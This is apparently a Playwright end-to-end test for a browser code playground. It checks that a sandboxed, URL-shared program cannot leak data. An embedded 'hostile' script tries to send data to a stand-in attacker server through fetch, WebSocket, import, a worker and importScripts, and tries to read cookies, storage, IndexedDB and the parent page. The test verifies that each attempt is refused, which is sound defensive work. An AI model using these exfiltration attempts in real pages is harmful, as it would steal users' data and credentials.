import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser, openPage } from './browser.ts'
import { startPortal, type Portal } from './portal.ts'

let browser: Browser
let portal: Portal

beforeAll(async () => {
  ;[browser, portal] = await Promise.all([openBrowser(), startPortal()])
})
afterAll(async () => {
  await browser?.close()
  await portal?.close()
})

/** What a stranger may have written into an address: each line says what it got. */
const hostile = `
const tried: Record<string, () => unknown> = {
  fetch: () => fetch(EVIL + '/?stolen'),
  XMLHttpRequest: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = resolve
    request.onerror = () => reject(new Error('refused'))
    request.open('GET', ORIGIN + '/portal/v1/account')
    request.send()
  }),
  WebSocket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(EVIL.replace('http', 'ws'))
    socket.onopen = resolve
    socket.onerror = () => reject(new Error('refused'))
  }),
  import: () => import(EVIL + '/module.js'),
  importScripts: () => (globalThis as any).importScripts(ORIGIN + '/sealed/city.js?stolen'),
  'a worker': () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "').then(() => postMessage('got'), () => postMessage(''))"])))
    worker.onmessage = ({ data }) => data === 'got' ? resolve(data) : reject(new Error('refused'))
  }),
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  'a database': () => new Promise((resolve, reject) => {
    const opening = indexedDB.open('portal')
    opening.onsuccess = resolve
    opening.onerror = () => reject(new Error('refused'))
  }),
  caches: () => caches.keys(),
  'the page': () => (globalThis as any).parent.document,
  // What the sandbox answers took the place of.
  'its own server': () => {
    delete (globalThis as any).fetch
    return fetch(ORIGIN + '/portal/v1/account')
  },
}
console.log(self.origin)
for (const [name, attempt] of Object.entries(tried)) {
  try {
    await attempt()
    console.log(name + ': GOT IT')
  } catch {
    console.log(name + ': refused')
  }
}
console.log('all tried')
`

const printed = async (page: Page): Promise<readonly string[]> =>
  (await page.getByRole('list', { name: 'What it printed' }).locator(':scope > li').allInnerTexts()).map((line) =>
    line.trim(),
  )

async function runHere(page: Page, code: string): Promise<void> {
  await page.goto(`/playground/#text=${encodeURIComponent(code)}`)
  await page.reload()
  await page.getByRole('button', { name: 'Run', exact: true }).click()
}

test('a program runs in the page, is shared by address, and sends nothing, however it tries', async () => {
  const { page, faults } = await openPage(browser, portal.origin)
  /** Whatever reaches it has left the page. What a policy refuses, the browser tells of as a request all the same. */
  const stolen: string[] = []
  const thief = createServer(({ url = '' }, response) => {
    stolen.push(url)
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end()
  }).listen(0, 'localhost')
  await once(thief, 'listening')
  // Listens on TCP.
  const { port } = thief.address() as AddressInfo
  const answered: string[] = []
  await page.goto('/playground/')
  const status = page.getByRole('status')
  await page.getByRole('textbox', { name: 'Your program' }).first().waitFor()
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await status.filter({ hasText: /^Ended/ }).waitFor()
  expect(await printed(page)).toHaveLength(1)

  // The address holds it now: the same page again, elsewhere.
  expect(page.url()).toContain('#code=')
  await page.reload()
  await page.getByRole('textbox', { name: 'Your program' }).filter({ hasText: 'createClient' }).first().waitFor()

  const program = `const [ORIGIN, EVIL] = ${JSON.stringify([portal.origin, `http://localhost:${port}`])}\n${hostile}`
  await runHere(page, program)
  page.context().on('response', (response) => answered.push(response.url()))
  await status.filter({ hasText: /^Ended/ }).waitFor()
  const lines = await printed(page)
  expect(lines.filter((line) => line.includes('GOT IT'))).toEqual([])
  expect([lines[0], lines.at(-1), lines.length]).toEqual(['null', 'all tried', 14])
  thief.close()
  expect(stolen).toEqual([])
  // The frame and the worker are the page's own; nothing else was answered while it ran.
  const own = /\/sealed\/(?:frame\.html|city\.js)$|^blob:|\/(?:addresses\.json|favicon\.svg)$/
  expect(answered.filter((url) => !own.test(url))).toEqual([])
  // What is refused, the browser says.
  expect(faults.filter((fault) => !/Content Security Policy|Refused|violates/i.test(fault))).toEqual([])

  await runHere(page, 'for (;;);')
  await status.filter({ hasText: 'Running' }).waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await status.filter({ hasText: 'Stopped' }).waitFor()
})
